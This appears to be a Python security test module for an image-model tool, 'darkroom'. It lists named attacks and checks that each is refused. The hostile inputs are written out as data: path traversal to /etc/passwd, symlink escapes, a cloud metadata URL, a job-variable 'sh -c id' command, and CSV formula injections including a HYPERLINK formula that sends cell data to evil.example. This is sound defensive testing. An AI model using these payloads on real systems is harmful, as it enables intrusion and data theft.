"""Attacks by name: what somebody does to make darkroom read, write, run or show what it must not, really carried out.

One table for the tests, for `python -m benchmarks trust` and for docs/reference/attacks.md. What another test looks at
one by one is taken from its table.
"""

from __future__ import annotations

import asyncio
import csv
import importlib
import io
import json
import logging
import os
import re
import shutil
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import chdir, contextmanager
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Final

from darkroom.errors import BundleUnreadable, DarkroomError, UnsupportedModel, WrongUse
from darkroom.orchestrator.connection import environment_of
from darkroom.roots import ROOTS, check_inside
from darkroom.spreadsheets import as_csv, out_of_a_cell
from tests import test_bundle_trust as trust
from tests.form_fields import flow_of
from tests.shown import HOSTILE, assert_harmless
from tests.test_reports_server import REFUSED as TARGETS
from tests.test_reports_server import pages_beside_secrets

SECRET: Final = "hunter2"
DEPLOYED: Final = {"command": "darkroom", "env": {ROOTS: '["/srv/parts"]'}}


class NotRefused(Exception):
    """The attack was carried out, or refused in other words than these."""


@dataclass(frozen=True)
class Workshop:
    """An empty folder for one attack, and a sealed bundle that nobody may change."""

    folder: Path
    sealed: Path

    def bundle(self) -> Path:
        """A copy of the bundle."""
        return Path(shutil.copytree(self.sealed, self.folder / "copy"))

    @contextmanager
    def project(self) -> Iterator[Path]:
        """Inside it, a run of a project: the working folder, roots, and beside it what nobody's form may reach."""
        project, outside = self.folder / "project", self.folder / "outside"
        for folder in (project / "inbox", project / "photos", outside / "photos"):
            folder.mkdir(parents=True)
        shutil.copytree(self.sealed, project / "bundle")
        shutil.copytree(self.sealed, outside / "bundle")
        for folder in (project, outside):
            (folder / "file.json").write_text("[0.5, 0.5]")
        (outside / "photos" / "private.jpg").write_bytes(b"\xff\xd8\xff")
        (project / "link").symlink_to(outside / "photos")
        (project / "photos" / "innocent.jpg").symlink_to(outside / "photos" / "private.jpg")
        (project / "inbox" / "2026-11-23").symlink_to(outside / "photos")
        with chdir(project), environment_of({ROOTS: json.dumps([str(project), "s3://photos/parts"])}):
            yield outside


@dataclass(frozen=True)
class Attack:
    """`does`: what somebody does. `refused_by`: the error's class, or the property that holds nevertheless.

    `carry_out` returns the message of the refusal; NotRefused or an AssertionError: there was none.
    """

    kind: str
    does: str
    refused_by: str
    carry_out: Callable[[Workshop], str]


def carried_out(attack: Attack, at: Workshop) -> tuple[bool, str]:
    """Whether it is refused, and what is said."""
    try:
        return True, attack.carry_out(at)
    except Exception as error:  # also an error of the attack itself: what was not tried was not refused
        return False, f"{type(error).__name__}: {error}"


def refusal(kind: type[Exception], says: str, do: Callable[[], object]) -> str:
    """The message of the error."""
    try:
        do()
    except kind as error:
        if re.search(says, str(error), re.DOTALL) is None:
            raise NotRefused(f"in other words: {error}") from error
        return str(error)
    raise NotRefused("nothing was said")


# -- the form of a run: flow, what is typed (beside what it needs), the parameter that is named

NEEDED: Final[Mapping[str, dict[str, Any]]] = {
    "train": {"folder": "photos"},
    "adopt": {"model": "file.json", "data": "photos"},
    "audit": {"bundle": "bundle", "data": "photos"},
    "diagnose": {"bundle": "bundle", "images": "photos"},
    "explain": {"bundle": "bundle", "image": "file.json"},
    "backfill": {"bundle": "bundle", "inbox": "inbox/{night}", "start": "2026-11-22", "end": "2026-11-23"},
    "score": {"bundle": "bundle", "inbox": "inbox"},
    "quarantine": {},
    **{name: {"bundle": "bundle"} for name in ("verify", "reseal", "evaluate")},
}
FORMS: Final[Mapping[str, tuple[str, dict[str, Any], str]]] = {
    "photos of somebody else to train on": ("train", {"folder": "{outside}/photos"}, "folder"),
    "bundles sealed in a folder of somebody else": ("train", {"models": "{outside}"}, "models"),
    "a preparation read from elsewhere": (
        "train",
        {"recipe": {"preprocessing": "{outside}/file.json"}},
        "recipe.preprocessing",
    ),
    "groups read from elsewhere": ("train", {"recipe": {"groups": "/etc/passwd"}}, "recipe.groups"),
    "weights read from elsewhere": ("train", {"recipe": {"weights": "{outside}/file.json"}}, "recipe.weights"),
    "a model from elsewhere": ("adopt", {"model": "{outside}/file.json"}, "model"),
    "labelled photos from elsewhere": ("adopt", {"data": "{outside}/photos"}, "data"),
    "names of classes read from elsewhere": ("adopt", {"labels": "/etc/passwd"}, "labels"),
    "a preset that is a file elsewhere": ("adopt", {"preprocessing": "{outside}/file.json"}, "preprocessing"),
    "an adopted model sealed elsewhere": ("adopt", {"models": "../outside"}, "models"),
    "a bundle from elsewhere": ("score", {"bundle": "{outside}/bundle"}, "bundle"),
    "an inbox that is the disk": ("score", {"inbox": "/"}, "inbox"),
    "an inbox by way of ..": ("score", {"inbox": "inbox/../../outside/photos"}, "inbox"),
    "an inbox behind a link": ("score", {"inbox": "link"}, "inbox"),
    "an inbox of a home folder": ("score", {"inbox": "/root/{night:%Y}"}, "inbox"),
    "a path in place of the night": ("score", {"inbox": "inbox/{night:../../outside/photos}"}, "inbox"),
    "a path put together from two nights": (
        "score",
        {"inbox": "inbox/{night:.}{night:.}/{night:.}{night:.}/outside"},
        "inbox",
    ),
    "an inbox that ends early": ("score", {"inbox": "inbox\0/../../outside"}, "inbox"),
    "an inbox on the web": ("score", {"inbox": "http://169.254.169.254/latest"}, "inbox"),
    "an inbox in another bucket": ("score", {"inbox": "s3://others/inbox"}, "inbox"),
    "results in a folder of somebody else": ("score", {"results": "{outside}/results"}, "results"),
    "results at a file: address": ("score", {"results": "file://{outside}"}, "results"),
    "results at an escaped file: address": ("score", {"results": "file:{project}/%2e%2e/outside"}, "results"),
    "results in a bucket of a longer name": ("score", {"results": "s3://photos-of-others/parts"}, "results"),
    "results in a folder of a longer name": ("score", {"results": "s3://photos/parts-of-others"}, "results"),
    "results above the folder of a bucket": ("score", {"results": "s3://photos"}, "results"),
    "results in a bucket by way of ..": ("score", {"results": "s3://photos/parts/../others"}, "results"),
    "suites, which run whole, from elsewhere": ("score", {"run": {"suites": "{outside}/photos"}}, "run.suites"),
    "metrics written elsewhere": ("score", {"run": {"metrics": "{outside}/night.prom"}}, "run.metrics"),
    "metrics pushed to anybody": ("score", {"run": {"metrics": "http://evil.example:9091"}}, "run.metrics"),
    "a scheduler of Dask, which is sent code and sends it": (
        "score",
        {"run": {"runner": "dask", "dask_address": "evil.example:8786"}},
        "run.dask_address",
    ),
    "nights from elsewhere": ("backfill", {"inbox": "{outside}/{night}"}, "inbox"),
    "nights scored with a bundle from elsewhere": ("backfill", {"bundle": "../outside/bundle"}, "bundle"),
    "nights written elsewhere": ("backfill", {"results": "/tmp"}, "results"),
    "suites for all nights from elsewhere": ("backfill", {"run": {"suites": "link"}}, "run.suites"),
    "a bundle from elsewhere proved": ("verify", {"bundle": "{outside}/bundle"}, "bundle"),
    "engines compared on photos from elsewhere": ("verify", {"data": "{outside}/photos"}, "data"),
    "a bundle from elsewhere sealed anew": ("reseal", {"bundle": "link/../bundle"}, "bundle"),
    "a bundle from elsewhere audited": ("audit", {"bundle": "{outside}/bundle"}, "bundle"),
    "photos from elsewhere audited": ("audit", {"data": "{outside}/photos"}, "data"),
    "an audit written over a web page": ("audit", {"out": "/var/www/html"}, "out"),
    "a bundle from elsewhere diagnosed": ("diagnose", {"bundle": "{outside}/bundle"}, "bundle"),
    "images from elsewhere diagnosed": ("diagnose", {"images": "{outside}/photos"}, "images"),
    "predictions read from elsewhere": ("diagnose", {"predictions": "/etc/passwd"}, "predictions"),
    "a diagnosis written elsewhere": ("diagnose", {"out": "{outside}"}, "out"),
    "a bundle from elsewhere evaluated": ("evaluate", {"bundle": "{outside}/bundle"}, "bundle"),
    "results from elsewhere evaluated": ("evaluate", {"results": "{outside}"}, "results"),
    "labels read from elsewhere": ("evaluate", {"labels": "/etc/passwd"}, "labels"),
    "an image from elsewhere explained": ("explain", {"image": "link/private.jpg"}, "image"),
    "an explanation by a bundle from elsewhere": ("explain", {"bundle": "{outside}/bundle"}, "bundle"),
    "an explanation written elsewhere": ("explain", {"out": "{outside}"}, "out"),
    "copies in a quarantine elsewhere deleted": ("quarantine", {"results": "{outside}"}, "results"),
}


def filled(value: Any, places: Mapping[str, Path]) -> Any:
    """What is typed, with `{outside}` and the like in full."""
    if isinstance(value, dict):
        return {name: filled(inner, places) for name, inner in value.items()}
    if isinstance(value, str):
        for name, place in places.items():
            value = value.replace(f"{{{name}}}", str(place))
    return value


def _in_the_form(flow: str, typed: dict[str, Any], at_fault: str, at: Workshop) -> str:
    with at.project() as outside:
        given = filled({**NEEDED[flow], **typed}, {"outside": outside, "project": Path.cwd()})
        # As Prefect's engine does it, before the run does anything.
        told = refusal(WrongUse, "outside of the folders|not the address", partial(_validated, flow, given))
    if f"  parameter: {at_fault}\n" not in told or "  expected: " not in told or "  what to do: " not in told:
        raise NotRefused(f"without saying what is wrong: {told}")
    return told


def _validated(flow: str, given: dict[str, Any]) -> object:
    return flow_of(flow).validate_parameters(given)


def _prediction_of_a_file(at: Workshop) -> str:
    from tasks.stated_prediction import read_stated

    with at.project() as outside:
        return refusal(WrongUse, "outside of", lambda: read_stated(str(outside / "file.json"), ("a", "b")))


def _night_behind_a_link(at: Workshop) -> str:
    from flows.parameters import delivered

    with at.project():
        folder = Path("inbox/2026-11-23")
        return refusal(WrongUse, "outside of", lambda: delivered("inbox/{night}", folder, Path("results")))


def _photo_behind_a_link(at: Workshop) -> str:
    from tasks.photos import Photos

    with at.project():
        return refusal(WrongUse, "outside of", lambda: Photos(Path("photos"), ["innocent.jpg"])[0])


def _image_behind_a_link(at: Workshop) -> str:
    from tasks.refusal import ImageRefused
    from tasks.worker_main import read_file

    with at.project():
        return refusal(ImageRefused, "", lambda: read_file("photos/innocent.jpg", 1000)) or "a link out of the folder"


def _roots_that_are_none(at: Workshop) -> str:
    with environment_of({ROOTS: "/srv/parts"}):
        return refusal(WrongUse, "cannot be read", lambda: check_inside("/srv/parts/inbox"))


def _job_variables(brought: dict[str, Any], at: Workshop) -> str:
    return refusal(WrongUse, "job variables", lambda: resolved(brought))


def resolved(brought: dict[str, Any]) -> object:
    """What the worker of `darkroom serve` makes of a run with these job variables."""
    from prefect.client.schemas.objects import FlowRun

    from darkroom.orchestrator.worker import EndingWorker

    run = FlowRun(flow_id="00000000-0000-0000-0000-000000000000", job_variables=brought)
    resolve: Any = EndingWorker.job_configuration.resolve_for_flow_run
    return asyncio.run(resolve(run, deployment=SimpleNamespace(job_variables=DEPLOYED)))


FORM_ATTACKS: Final = [
    *(
        Attack("form", does, f"WrongUse: {typed[2]} of {typed[0]}", partial(_in_the_form, *typed))
        for does, typed in FORMS.items()
    ),
    Attack("form", "a prediction that is a file elsewhere", "WrongUse", _prediction_of_a_file),
    Attack("form", "a night whose folder is a link out", "WrongUse", _night_behind_a_link),
    Attack("form", "a photo of the folder that is a link out", "WrongUse", _photo_behind_a_link),
    Attack("form", "an image to decode that is a link out", "the code link_out_of_folder", _image_behind_a_link),
    Attack("form", "roots that cannot be read", "WrongUse", _roots_that_are_none),
    Attack("form", "a run that brings its command", "WrongUse", partial(_job_variables, {"command": "sh -c id"})),
    Attack("form", "a run that brings other roots", "WrongUse", partial(_job_variables, {"env": {ROOTS: '["/"]'}})),
    Attack("form", "a run that brings no roots", "WrongUse", partial(_job_variables, {"env": {}})),
    Attack(
        "form", "a run that brings roots by a dotted name", "WrongUse", partial(_job_variables, {f"env.{ROOTS}": ""})
    ),
]


# -- paths: the server of pages, an inbox, keys of a storage


def _page(target: str, at: Workshop) -> str:
    from darkroom.orchestrator.reports_server import page_at

    if page_at(pages_beside_secrets(at.folder), target) is not None:
        raise NotRefused("it is shown")
    return "404 Not Found"


def _in_an_inbox(make: Callable[[Path, Path], object], reason: str, at: Workshop) -> str:
    from tasks.walk import walk

    inbox, outside = at.folder / "inbox", at.folder / "outside"
    for folder in (inbox, outside):
        folder.mkdir()
    (outside / "private.jpg").write_bytes(b"\xff\xd8\xff")
    make(inbox / "x.jpg", outside)
    ((_, found, detail),) = walk(inbox).decided.values()
    if found != reason:
        raise NotRefused(f"it is {found}")
    return f"{found}: {detail}"


def _key(key: str, at: Workshop) -> str:
    from darkroom.storage import LocalStorage

    storage = LocalStorage(at.folder / "results")
    return refusal(ValueError, "not a key", lambda: storage.write(key, b"x"))


def _name(name: str, at: Workshop) -> str:
    from tasks.bundle.versions import check_name

    return refusal(WrongUse, "", lambda: check_name(name))


def _version_in_use(version: str, at: Workshop) -> str:
    from tasks.bundle import find_bundle

    copy = at.bundle()
    models = at.folder / "models" / "parts"
    models.mkdir(parents=True)
    identity = json.loads((copy / "bundle.json").read_text())["id"]
    stated = {"version": version.format(copy=copy), "id": identity}
    (models / "current.json").write_text(json.dumps(stated))
    return refusal(BundleUnreadable, "nothing says which version is in use", lambda: find_bundle(models))


PATH_ATTACKS: Final = [
    *(
        Attack("paths", f"a page is asked for: {case}", "404 Not Found", partial(_page, target))
        for case, target in TARGETS.items()
    ),
    *(
        Attack("paths", f"in an inbox: {case}", f"quarantined unread, {reason}", partial(_in_an_inbox, make, reason))
        for case, make, reason in (
            ("a link out", lambda file, there: file.symlink_to(there / "private.jpg"), "link_out_of_folder"),
            ("a link to a folder outside", lambda file, there: file.symlink_to(there), "link_out_of_folder"),
            ("a link to a device", lambda file, there: file.symlink_to("/dev/zero"), "link_out_of_folder"),
            ("a pipe that nobody writes to", lambda file, there: os.mkfifo(file), "not_a_regular_file"),
            ("a circle of links", lambda file, there: file.symlink_to(file), "not_a_regular_file"),
        )
    ),
    *(
        Attack("paths", f"a key of the results: {case}", "ValueError", partial(_key, key))
        for case, key in (("one up", "../x"), ("up from below", "a/../../x"), ("absolute", "/etc/cron.d/x"))
    ),
    *(
        Attack("paths", f"a bundle's name: {case}", "WrongUse", partial(_name, name))
        for case, name in (("one up", ".."), ("a path", "a/b"), ("absolute", "/x"), ("hidden", ".x"), ("empty", ""))
    ),
    *(
        Attack("paths", f"the version in current.json: {case}", "BundleUnreadable", partial(_version_in_use, version))
        for case, version in (("up and into a bundle", "../../copy"), ("the whole path of a bundle", "{copy}"))
    ),
]


# -- bundles, and what is in them


def _folder(change: Callable[[Path], object], kind: type[DarkroomError], says: str, at: Workshop) -> str:
    copy = at.bundle()
    change(copy)
    return refusal(kind, says, lambda: trust.open_bundle(copy))


def _file(name: str, data: Callable[[Path], bytes], read: Callable[[Any], object], says: str, at: Workshop) -> str:
    copy, it_ran = at.bundle(), at.folder / "it ran"
    trust.put(copy, name, data(it_ran))
    opened = trust.open_bundle(copy)
    told = refusal(BundleUnreadable, says, lambda: read(opened))
    if it_ran.exists():
        raise NotRefused("it ran")
    return told


def _model(make: Callable[[Path, Path], bytes], says: str, at: Workshop) -> str:
    copy, it_ran = at.bundle(), at.folder / "it ran"
    trust.put(copy, "model.keras", make(copy / "model.keras", it_ran))
    opened = trust.open_bundle(copy)
    told = refusal(
        UnsupportedModel, says, lambda: trust.load_engine(opened.model_path, opened.manifest.embedding_layer)
    )
    if it_ran.exists():
        raise NotRefused("it ran")
    return told


BUNDLE_ATTACKS: Final = [
    *(
        Attack("bundle", f"in the folder: {does}", kind.__name__, partial(_folder, change, kind, says))
        for does, (change, kind, says) in trust.FOLDERS.items()
    ),
    *(
        Attack("bundle", f"a file whose digest holds: {does}", "BundleUnreadable", partial(_file, *case))
        for does, case in trust.FILES.items()
    ),
    *(
        Attack("bundle", f"a model whose digest holds: {does}", "UnsupportedModel", partial(_model, *case))
        for does, case in trust.MODELS.items()
    ),
]


# -- text that is shown: file names, EXIF, labels, class names, what is typed


def _test(name: str, text: str, at: Workshop) -> str:
    module, _, function = name.partition(":")
    getattr(importlib.import_module(f"tests.{module}"), function)(text)
    return "shown as text"


_SHOWN: Final = {
    ("html", "on the page of a night"): "test_report:test_no_text_from_a_file_becomes_markup_on_the_page",
    ("html", "on the page of one image"): "test_explain:test_names_and_labels_stay_text",
    ("html", "among the labels of a page"): "test_labels_place:test_no_class_becomes_markup_and_none_escapes_its_place",
    ("markdown", "in the artifact of a night"): "test_report:test_no_text_from_a_file_becomes_markup_in_the_artifact",
    ("markdown", "on the card of an adopted model"): "test_card:test_what_an_adopted_model_says_of_itself_stays_text",
    ("terminal", "in a terminal"): "test_report:test_no_text_from_a_file_commands_the_terminal",
}


def _logged(text: str, at: Workshop) -> str:
    """A name in the log of a run: as an argument of a line, in the line itself, in an error with a traceback."""
    from darkroom.orchestrator.quiet import _Visible

    said = ""
    for message, arguments in (("Left out: %s", (text,)), (text, ())):
        record = logging.LogRecord("prefect.flow_runs", logging.INFO, "", 0, message, arguments, _raised(text))
        record.flow_name = "train"
        assert _Visible(frozenset({"train"})).filter(record)
        said = record.getMessage()
        assert_harmless((said if arguments else said.replace("\n", "")) + str(record.exc_text).replace("\n", ""))
    return said


def _raised(text: str) -> Any:
    try:
        raise OSError(text)
    except OSError:
        return sys.exc_info()


SHOWN_ATTACKS: Final = [
    *(
        Attack(kind, f"{case} {where}", "shown as text", partial(_test, test, text))
        for (kind, where), test in _SHOWN.items()
        for case, text in HOSTILE.items()
    ),
    *(
        Attack("terminal", f"{case} in the log of a run", "shown as text", partial(_logged, text))
        for case, text in HOSTILE.items()
    ),
]


# -- tables for people

CELLS: Final = {
    "a formula": '=HYPERLINK("http://evil.example?"&A1,"x").jpg',
    "a command": "=cmd|' /C calc'!A0",
    "a sum": "+1+1",
    "a difference": "-2+3+cmd|' /C calc'!A0",
    "a function of old": "@SUM(1+1)",
    "a formula behind a blank": " =1+1",
    "a formula behind a tab": "\t=1+1",
    "a formula on a second line": "\r\n=1+1",
    "a wide sign": "＝1+1",
    "a formula that says it is text": "'=1+1",
    "a cell that ends early": 'x","=1+1',
}


def _cell(text: str, at: Workshop) -> str:
    ((name, group),) = list(csv.reader(io.StringIO(as_csv(("path", "group"), [(text, "1")]))))[1:]
    if name.lstrip()[:1] in tuple("=+-@＝＋－＠") or name[:1] in "\t\r\n":
        raise NotRefused("a spreadsheet would carry it out")
    assert (out_of_a_cell(name), group) == (text, "1")
    return name


CSV_ATTACKS: Final = [
    Attack("csv", f"a file's name that is {does}", "text in its cell, and read back unchanged", partial(_cell, text))
    for does, text in CELLS.items()
]


# -- secrets


def _unsaid(told: str) -> str:
    if SECRET in told:
        raise NotRefused(told)
    return told


def _key_of_a_bucket(at: Workshop) -> str:
    from darkroom.storage import store_address

    return _unsaid(refusal(WrongUse, "no name or secret", lambda: store_address(f"s3://ada:{SECRET}@bucket/x")))


def _password_of_metrics(at: Workshop) -> str:
    with at.project():
        given = {**NEEDED["score"], "run": {"metrics": f"http://ada:{SECRET}@push:9091"}}
        return _unsaid(refusal(WrongUse, "without user and password", partial(_validated, "score", given)))


def _password_of_an_inbox(at: Workshop) -> str:
    with at.project():
        given = {**NEEDED["score"], "inbox": f"https://ada:{SECRET}@cameras.example/x"}
        return _unsaid(refusal(WrongUse, "outside of", partial(_validated, "score", given)))


def _webhook(kind: str, at: Workshop) -> str:
    from darkroom.orchestrator import automations

    return _unsaid(refusal(WrongUse, "", lambda: automations.make_channel(kind, f"ftp://ada:{SECRET}@hooks.example")))


def _event(at: Workshop) -> str:
    from darkroom.orchestrator.events import _shown

    return _unsaid(_shown(f"s3://ada:{SECRET}@bucket/x"))


def _name_of_a_run(at: Workshop) -> str:
    from flows.naming import _last

    return _unsaid(_last(f"s3://ada:{SECRET}@bucket"))


def _log(at: Workshop) -> str:
    return _unsaid(_logged(f"no answer from s3://ada:{SECRET}@bucket/x", at))


def _notice(at: Workshop) -> str:
    from prefect.server.utilities.user_templates import render_user_template_sync
    from prefect.types._datetime import now

    from darkroom.orchestrator.notices import _FAILED_BODY

    typed = {"bundle": "<!channel>\nx", "inbox": f"s3://ada:{SECRET}@bucket/x"}
    state = SimpleNamespace(message="Nothing.", name="Failed")
    run = SimpleNamespace(parameters=typed, state=state, name="x", id="1", expected_start_time=now("UTC"))
    told = _unsaid(render_user_template_sync(_FAILED_BODY, {"flow_run": run}))
    assert "Bundle ‹!channel> x, inbox s3://…@bucket/x\n" in told, told
    return told


SECRET_ATTACKS: Final = [
    Attack("secrets", "a key in the address of a bucket", "WrongUse, without it", _key_of_a_bucket),
    Attack("secrets", "a password in the address of a Pushgateway", "WrongUse, without it", _password_of_metrics),
    Attack("secrets", "a password in the address of an inbox", "WrongUse, without it", _password_of_an_inbox),
    *(
        Attack("secrets", f"an address for {kind} that is none", "WrongUse, without it", partial(_webhook, kind))
        for kind in ("webhook", "slack", "email")
    ),
    Attack("secrets", "a key in the event of a night that failed", "left out", _event),
    Attack("secrets", "a key in the name of a run", "left out", _name_of_a_run),
    Attack("secrets", "a key in the log of a run", "left out", _log),
    Attack("secrets", "a key, and markup of Slack, in the notice of a failure", "left out; shown as text", _notice),
]

ATTACKS: Final = (
    *FORM_ATTACKS, *PATH_ATTACKS, *BUNDLE_ATTACKS, *SHOWN_ATTACKS, *CSV_ATTACKS, *SECRET_ATTACKS,
)  # fmt: skip
# What no other test carries out one by one.
OF_THEIR_OWN: Final = (*FORM_ATTACKS, *PATH_ATTACKS[len(TARGETS) :], *SHOWN_ATTACKS[-len(HOSTILE) :], *CSV_ATTACKS,
    *SECRET_ATTACKS,
)  # fmt: skip
